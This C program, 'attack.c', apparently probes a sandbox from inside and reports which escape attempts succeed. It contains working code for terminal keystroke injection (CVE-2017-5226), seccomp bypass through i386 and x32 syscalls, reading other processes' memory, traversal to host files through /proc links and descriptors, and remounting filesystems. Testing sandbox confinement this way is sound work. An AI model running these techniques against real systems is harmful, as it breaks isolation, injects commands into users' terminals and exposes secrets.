/*
 * Attacks from inside a box, each by the system calls themselves. Prints one line for each thing
 * that could be done, and one that tells how much was tried.
 *
 *   attack type TEXT               push TEXT into every terminal that can be found (CVE-2017-5226)
 *   attack socketcall FAMILY       a socket by the system calls of i386 and of x32
 *   attack algorithm               a socket of AF_ALG, the ways that a filter may overlook
 *   attack memory A B MS           look for the text AB in the memory of every process
 *   attack connect FILE            connect to every unix socket that the file names
 *   attack reach PATH              reach a file of the host through every descriptor and magic link
 *   attack mounts cover|undo       change what is mounted, by covering it too or not
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define I386_SOCKETCALL 102
#define I386_SOCKET 359
#define X32 0x40000000
#define NO_SUCH_TYPE 15

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/* Upper halves that the kernel throws away and a filter may not (CVE-2019-10063). */
static int push(int fd, const char *text)
{
	static const unsigned long requests[] = { TIOCSTI, TIOCSTI | 1ul << 32,
						  TIOCSTI | 1ul << 63 };
	char linux_console[] = { 3, 0 }; /* TIOCL_PASTESEL */
	int pushed = 0;

	for (unsigned i = 0; i < 3; i++)
		for (const char *p = text; *p; p++)
			pushed += syscall(SYS_ioctl, fd, requests[i], p) == 0;
	pushed += ioctl(fd, TIOCLINUX, linux_console) == 0;
	return pushed;
}

static int type(const char *text)
{
	static const char *const names[] = { "/dev/tty",	"/dev/console",
					     "/dev/pts/0",	"/dev/pts/1",
					     "/proc/self/fd/0", "/proc/1/fd/0",
					     "/dev/tty0",	"/dev/tty1" };
	int pushed = 0, tried = 0;

	for (int fd = 0; fd < 16; fd++) {
		/* A terminal that nobody leads a session on could be taken. */
		ioctl(fd, TIOCSCTTY, 1);
		pushed += push(fd, text);
		tried++;
	}
	for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = open(names[i], O_RDWR | O_NOCTTY);

		pushed += fd >= 0 ? push(fd, text) : 0;
		tried++;
	}
	printf("tried %d\npushed %d\n", tried, pushed);
	return 0;
}

static long i386(long number, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(number), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)ret;
}

static void told(const char *way, long ret)
{
	printf("%s %s\n", way, ret >= 0 ? "made a socket" : strerror((int)-ret));
}

static int socketcall(int family)
{
	unsigned *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long ret;

	if (args == MAP_FAILED)
		return 1;
	args[0] = (unsigned)family;
	args[1] = SOCK_DGRAM;
	setvbuf(stdout, NULL, _IONBF, 0);
	told("socketcall", i386(I386_SOCKETCALL, 1, (long)args, 0));
	told("i386 socket", i386(I386_SOCKET, family, SOCK_DGRAM, 0));
	ret = syscall(X32 | SYS_socket, family, SOCK_DGRAM, 0);
	told("x32 socket", ret < 0 ? -errno : ret);
	ret = syscall(SYS_socket, family, SOCK_DGRAM, 0);
	told("socket", ret < 0 ? -errno : ret);
	return 0;
}

static int algorithm(void)
{
	struct {
		unsigned short family;
		char type[14];
		unsigned feature, mask;
		char name[64];
	} address = { AF_ALG, "hash", 0, 0, "sha256" };
	int pair[2];
	long ret = syscall(SYS_socket, (long)AF_ALG, SOCK_SEQPACKET, 0);

	if (ret >= 0 && bind((int)ret, (void *)&address, sizeof(address)) == 0)
		puts("bound a hash");
	told("socket", ret < 0 ? -errno : ret);
	ret = syscall(SYS_socket, 1l << 32 | AF_ALG, SOCK_SEQPACKET, 0);
	told("wide socket", ret < 0 ? -errno : ret);
	ret = syscall(SYS_socketpair, (long)AF_ALG, SOCK_SEQPACKET, 0, pair);
	told("socketpair", ret < 0 ? -errno : ret);
	/* The kernel looks at the type first, and says so whether it has the family or not. */
	ret = syscall(SYS_socket, (long)AF_ALG, NO_SUCH_TYPE, 0);
	told("impossible socket", ret < 0 ? -errno : ret);
	return 0;
}

static bool search(int pid, unsigned long from, unsigned long to, const char *text)
{
	static char page[1 << 16];
	size_t length = strlen(text);

	/* Overlapping, so that no border cuts the text. */
	for (unsigned long at = from; at < to; at += sizeof(page) - length) {
		size_t room = to - at < sizeof(page) ? to - at : sizeof(page);
		struct iovec ours = { page, room }, theirs = { (void *)at, room };
		ssize_t n = process_vm_readv(pid, &ours, 1, &theirs, 1, 0);

		if (n <= 0)
			return false;
		if (memmem(page, (size_t)n, text, length))
			return true;
	}
	return false;
}

/* How many of its mappings could be read, or -1 where the text is in one. */
static int search_process(int pid, const char *text)
{
	char path[64], line[512];
	unsigned long from, to;
	int read = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	while (maps && read >= 0 && fgets(line, sizeof(line), maps)) {
		char *end;

		from = strtoul(line, &end, 16);
		to = strtoul(end + 1, &end, 16);
		if (end[1] != 'r' || to < from || to - from > 1ul << 28)
			continue;
		read = search(pid, from, to, text) ? -1 : read + 1;
	}
	if (maps)
		fclose(maps);
	return read;
}

static int memory(const char *a, const char *b, const char *ms)
{
	double end = now() + strtod(ms, NULL);
	char text[256];
	int looks = 0, mappings = 0, found = 0;

	/* Nowhere in this process but here, which is left out. */
	snprintf(text, sizeof(text), "%s%s", a, b);
	while (now() < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = (int)strtol(entry->d_name, NULL, 10), read;

			if (pid < 1 || pid == getpid())
				continue;
			read = search_process(pid, text);
			mappings += read > 0 ? read : 0;
			if (read < 0 && !found++)
				printf("found it in process %d\n", pid);
		}
		if (dir)
			closedir(dir);
		looks++;
	}
	printf("looks %d mappings %d\n", looks, mappings);
	return 0;
}

static int connect_all(const char *list)
{
	static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	FILE *file = fopen(list, "r");
	char line[256];
	int tried = 0;

	while (file && fgets(line, sizeof(line), file)) {
		line[strcspn(line, "\n")] = '\0';
		if (strlen(line) >= sizeof(address.sun_path))
			continue;
		snprintf(address.sun_path, sizeof(address.sun_path), "%.107s", line);
		tried++;
		for (int i = 0; i < 3; i++) {
			int fd = socket(AF_UNIX, types[i], 0);

			if (connect(fd, (void *)&address, sizeof(address)) == 0)
				printf("connected %s\n", line);
			close(fd);
		}
	}
	printf("tried %d\n", tried);
	return file ? 0 : 1;
}

static void try_reach(const char *way, int at, const char *dir, const char *path)
{
	static const char up[] = "../../../../../../../../../../../..";
	char full[4096];
	int fd;

	snprintf(full, sizeof(full), "%s%s%s%s", dir, *dir ? "/" : "", up, path);
	fd = openat(at, full, O_RDONLY);
	if (fd < 0)
		return;
	printf("reached %s by %s\n", path, way);
	close(fd);
}

static int reach(const char *path)
{
	char dir[64], name[32];
	struct stat st;
	int tried = 0;

	for (int fd = 0; fd < 256; fd++) {
		snprintf(name, sizeof(name), "descriptor %d", fd);
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
			printf("held a directory on %d\n", fd);
		try_reach(name, fd, "", path);
		for (int pid = 0; pid < 4; pid++) {
			if (pid)
				snprintf(dir, sizeof(dir), "/proc/%d/fd/%d", pid, fd);
			else
				snprintf(dir, sizeof(dir), "/proc/self/fd/%d", fd);
			try_reach(dir, AT_FDCWD, dir, path);
		}
		tried += 5;
	}
	for (int pid = 1; pid < 16; pid++) {
		snprintf(dir, sizeof(dir), "/proc/%d/cwd", pid);
		try_reach(dir, AT_FDCWD, dir, path);
		snprintf(dir, sizeof(dir), "/proc/%d/root", pid);
		try_reach(dir, AT_FDCWD, dir, path);
		tried += 2;
	}
	try_reach("the current directory", AT_FDCWD, ".", path);
	try_reach("its name", AT_FDCWD, "/", path);
	printf("tried %d\n", tried + 2);
	return 0;
}

static int mounts(bool cover)
{
	char path[512], fstype[64], line[2048];
	FILE *file = fopen("/proc/self/mounts", "r");
	int tried = 0;

	while (file && fgets(line, sizeof(line), file)) {
		if (sscanf(line, "%*s %511s %63s", path, fstype) != 2)
			continue;
		tried++;
		if (strstr(line, " ro,") &&
		    mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
			printf("writable %s\n", path);
		if (cover && mount("none", path, "tmpfs", 0, NULL) == 0)
			printf("covered %s\n", path);
		else if (umount2(path, MNT_DETACH) == 0)
			printf("uncovered %s\n", path);
	}
	printf("tried %d\n", tried);
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(verb, "algorithm"))
		return algorithm();
	if (argc == 3 && !strcmp(verb, "mounts"))
		return mounts(!strcmp(argv[2], "cover"));
	if (argc == 3 && !strcmp(verb, "type"))
		return type(argv[2]);
	if (argc == 3 && !strcmp(verb, "socketcall"))
		return socketcall((int)strtol(argv[2], NULL, 10));
	if (argc == 3 && !strcmp(verb, "connect"))
		return connect_all(argv[2]);
	if (argc == 3 && !strcmp(verb, "reach"))
		return reach(argv[2]);
	if (argc == 5 && !strcmp(verb, "memory"))
		return memory(argv[2], argv[3], argv[4]);
	fprintf(stderr, "attack: see the head of attack.c\n");
	return 2;
}
